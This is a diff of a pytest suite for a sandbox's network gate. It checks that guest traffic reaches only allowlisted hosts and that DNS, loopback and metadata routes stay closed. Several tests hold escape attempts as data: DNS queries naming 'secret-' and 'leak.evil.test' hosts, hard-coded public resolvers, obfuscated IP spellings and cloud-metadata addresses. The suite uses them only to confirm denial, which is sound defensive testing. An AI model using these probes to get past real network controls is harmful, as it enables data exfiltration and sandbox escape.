@@ -8,17 +8,23 @@ import struct
 import pytest
 
 import product as products
+from conftest import both
 
 ALIAS = "python3 -c 'import os; print(os.environ[\"HTTP_PROXY\"])'"
 
-# A flow header straight to vsock port 6003, as a guest kernel may send it. Prints the reply's status.
+# A flow header straight to port 6003 of gate, as a guest kernel may send it; in a container to gate's socket. Returns
+# the reply's status.
 RAW_FLOW = r'''
-import socket, struct, sys, ipaddress
+import os, socket, struct, sys, ipaddress
+def to_gate():
+    unix = os.path.exists("/bottle/6003")
+    s = socket.socket(socket.AF_UNIX if unix else socket.AF_VSOCK, socket.SOCK_STREAM)
+    s.settimeout(15)
+    s.connect("/bottle/6003" if unix else (2, 6003))
+    return s
 def flow(addr, port, send=b"", family=None):
     a = ipaddress.ip_address(addr)
-    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
-    s.settimeout(15)
-    s.connect((2, 6003))
+    s = to_gate()
     s.sendall(struct.pack(">HBBBBH16s", 0x4246, 1, family or a.version, 6, 0, port, a.packed.ljust(16, b"\0")))
     r = b""
     while len(r) < 4:
@@ -49,6 +55,7 @@ def proxy_of(bottle):
 
 # --- exec -----------------------------------------------------------------------------------------
 
+@both
 def test_exec_echo(bottle):
     r = bottle.sh("echo out; echo err >&2; exit 7")
     assert (r.code, r.out, r.err) == (7, b"out\n", b"err\n"), r
@@ -59,6 +66,7 @@ def test_exec_echo(bottle):
     assert r.out.split() == [b"3000000"], r
 
 
+@both
 def test_exec_100_mb_through_stdout(bottle):
     script = "import sys\nb=bytes(range(256))*4096\n[sys.stdout.buffer.write(b) for _ in range(100)]"
     r = bottle.py(script, timeout=240)
@@ -67,6 +75,7 @@ def test_exec_100_mb_through_stdout(bottle):
     assert hashlib.sha256(r.out).hexdigest() == want
 
 
+@both
 def test_exec_pty_size_and_resize(bottle):
     """A terminal of our own: the size arrives, and so does a change of it."""
     import fcntl
@@ -118,6 +127,7 @@ def test_guest_basics(bottle):
     assert bottle.sh("ip -o link | grep -v -e ' lo:' -e dummy | wc -l").out == b"0\n"
 
 
+@both
 def test_proxy_env_on_alias(bottle):
     alias = proxy_of(bottle)
     env = dict(l.split("=", 1) for l in bottle.exec("env").out.decode().splitlines() if "=" in l)
@@ -126,12 +136,16 @@ def test_proxy_env_on_alias(bottle):
         assert env[name] == url
     for name in ("NO_PROXY", "no_proxy"):
         assert env[name] == "localhost,127.0.0.1,::1," + alias
-    # sudo drops the environment: it is in place again from files
+
+
+def test_proxy_env_after_sudo(bottle):
+    """sudo drops the environment: it is in place again from files."""
     assert bottle.sh("sudo -i env | grep -c ^HTTPS_PROXY=").out == b"1\n"
 
 
 # --- what is allowed ------------------------------------------------------------------------------
 
+@both
 def test_allowed_host_through_proxy(bottle, evidence):
     evidence.control()
     r = bottle.sh("curl -sS -m 20 http://allowed.test/hello")
@@ -145,32 +159,36 @@ def test_allowed_host_through_proxy(bottle, evidence):
     assert ("verdict", "allow") in kinds and any(k == "end" for k, _ in kinds), kinds
 
 
-def test_cidr_allowlist(bottle, evidence):
+def test_cidr_in_the_guest(bottle, evidence):
+    """Without proxy or header of its own: the fence sends it to gate."""
     r = bottle.py("import socket;s=socket.create_connection(('203.0.113.20',7000),15);"
                   "s.sendall(b'over tcp');print(s.recv(99))")
     assert r.out == b"b'over tcp'\n", r
-    evidence.packets = len(evidence.internet.quiet())
-    evidence.captured = len(evidence.internet.capture())
+
+
+@both
+def test_cidr_allowlist(bottle, evidence):
     r = bottle.py(RAW_FLOW + """
 for a, p in (("203.0.113.21", 7000), ("203.0.113.20", 7001), ("::ffff:203.0.113.21", 7000),
              ("2002:cb00:7115::", 7000), ("64:ff9b::cb00:7115", 7000), ("203.0.113.19", 7000)):
     print(a, p, flow(a, p))
-""", user="root")
+""", user=bottle.root)
     assert r.code == 0, r
     assert [l.split()[-1] for l in r.out.decode().splitlines()] == ["1"] * 6, r
     evidence.nothing_left()
     evidence.denied(kind="flow", reason="default_deny")
     # control: the same header to the allowed address, also in its v4-mapped spelling
     r = bottle.py(RAW_FLOW + "print(flow('203.0.113.20', 7000, b'raw'), flow('::ffff:203.0.113.20', 7000, b'x'))",
-                  user="root")
+                  user=bottle.root)
     assert r.out == b"0 0\n", r
     evidence.control()
 
 
 # --- what is denied -------------------------------------------------------------------------------
 
+@both
 def test_same_host_direct_denied(bottle, evidence):
-    r = bottle.sh("getent ahostsv4 allowed.test | head -1 | cut -d' ' -f1")
+    r = bottle.sh("dig +short allowed.test")
     synthetic = r.out.decode().strip()
     assert synthetic.startswith("198.1"), r
     for target in ("allowed.test", "203.0.113.10", synthetic):
@@ -178,11 +196,16 @@ def test_same_host_direct_denied(bottle, evidence):
             r = bottle.sh("env -i PATH=$PATH curl -k -sS -m 15 --resolve x.test:%d:%s %s://%s/hello" % (
                 port, target if target[0].isdigit() else "127.0.0.1", scheme, target))
             assert r.code != 0 and b"hello" not in r.out, (target, r)
+    # what a container cannot even send is asked of gate directly
+    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.10', 443), flow(%r, 443), flow(%r, 80))" % (synthetic, synthetic),
+                  user=bottle.root)
+    assert r.out == b"1 1 1\n", r
     evidence.nothing_left()
     evidence.denied(kind="flow", reason="synthetic_direct")
     evidence.control()
 
 
+@both
 def test_unlisted_host_through_proxy_denied(bottle, evidence):
     for url in ("https://denied.test/", "http://denied.test/", "https://203.0.113.12/", "https://0xcb00710c/",
                 "http://3405803788/", "https://allowed.test:8443/"):
@@ -196,6 +219,7 @@ def test_unlisted_host_through_proxy_denied(bottle, evidence):
     evidence.control()
 
 
+@both
 def test_private_and_loopback_names_refused(bottle, evidence):
     """Listed names that resolve where no name may lead (DNS rebinding)."""
     for host in ("private.test", "loop.test"):
@@ -211,12 +235,20 @@ TYPES = ("A AAAA NS CNAME SOA PTR MX TXT SRV HTTPS SVCB CAA DS DNSKEY NAPTR TLSA
          "TYPE65534").split()
 
 
+@both
 def test_dns_unlisted_nxdomain(bottle, evidence):
     script = "".join("echo %s $(dig +tries=1 +time=5 %s secret-%s.evil.test %s | grep -o 'status: [A-Z]*');" % (
         t, proto, t.lower(), t) for t in TYPES for proto in ("+notcp", "+tcp"))
     r = bottle.sh(script, timeout=240)
     got = r.out.decode().split("\n")[:-1]
     assert len(got) == 2 * len(TYPES) and all("NXDOMAIN" in l for l in got), r
+    evidence.nothing_left()
+    evidence.denied(kind="dns", reason="not_listed")
+    evidence.control()
+
+
+def test_dns_hard_coded_resolvers(bottle, evidence):
+    """They are not reached: the fence brings the question to our own. In a container: test_docker_no_dns."""
     for server in ("8.8.8.8", "1.1.1.1"):
         for proto in ("+notcp", "+tcp"):
             r = bottle.sh("dig +tries=1 +time=5 %s @%s leak.evil.test | grep -o 'status: [A-Z]*'" % (proto, server))
@@ -226,6 +258,7 @@ def test_dns_unlisted_nxdomain(bottle, evidence):
     evidence.control()
 
 
+@both
 def test_dns_listed_synthetic(bottle, evidence):
     r = bottle.sh("dig +short allowed.test; dig +short allowed.test; dig +short x1.zone.test")
     first, again, wild = r.out.decode().split()
@@ -239,6 +272,7 @@ def test_dns_listed_synthetic(bottle, evidence):
     evidence.nothing_left()
 
 
+@both
 def test_dns_nothing_leaves(bottle, evidence, internet):
     """None of the queries above reached the wire, and DoT and DoH to the impostors do not either."""
     r = bottle.sh("for p in 853 443; do for a in 8.8.8.8 1.1.1.1; do "
@@ -257,34 +291,36 @@ def test_dns_nothing_leaves(bottle, evidence, internet):
     evidence.control()
 
 
+@both
 def test_host_loopback_denied(bottle, evidence):
     r = bottle.py(RAW_FLOW + """
 for a in ("127.0.0.1", "::ffff:127.0.0.1", "127.255.255.254", "::1", "0.0.0.0", "::", "2002:7f00:1::",
           "64:ff9b::7f00:1", "198.51.100.2", "169.254.169.254", "100.100.100.200", "fd00:ec2::254"):
     for p in (22, 80, 443):
         print(a, p, flow(a, p))
-""", user="root")
+""", user=bottle.root)
     assert r.code == 0 and {l.split()[-1] for l in r.out.decode().splitlines()} == {"1"}, r
     evidence.nothing_left()
     evidence.denied(kind="flow", reason="floor")
-    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.20', 7000, b'control'))", user="root")
+    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.20', 7000, b'control'))", user=bottle.root)
     assert r.out == b"0\n", r
 
 
+@both
 def test_malformed_flow_header(bottle):
-    r = bottle.py(r'''
-import socket
+    r = bottle.py(RAW_FLOW + r'''
 for h in (b"\0" * 24, b"\x42\x46\x01\x04\x06\x01" + b"\0" * 18, b"\x42\x46\x02\x04\x06\0" + b"\0" * 18,
           b"\x42\x46\x01\x05\x06\0" + b"\0" * 18):
-    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(10); s.connect((2, 6003)); s.sendall(h)
+    s = to_gate(); s.sendall(h)
     print((s.recv(4) or b"\xff")[0])
-''', user="root")
+''', user=bottle.root)
     assert r.out == b"5\n5\n5\n5\n", r
 
 
+@both
 def test_service_off(bottle, evidence):
     alias = proxy_of(bottle)
-    r = bottle.py(RAW_FLOW + "print(flow(%r, 9418), flow(%r, 9100), flow(%r, 80))" % (alias, alias, alias), user="root")
+    r = bottle.py(RAW_FLOW + "print(flow(%r, 9418), flow(%r, 9100), flow(%r, 80))" % (alias, alias, alias), user=bottle.root)
     assert r.out == b"1 1 1\n", r
     evidence.denied(kind="flow", reason="service_off")
     assert not [x for x in evidence.new_records() if x["kind"] in ("verdict", "end")]
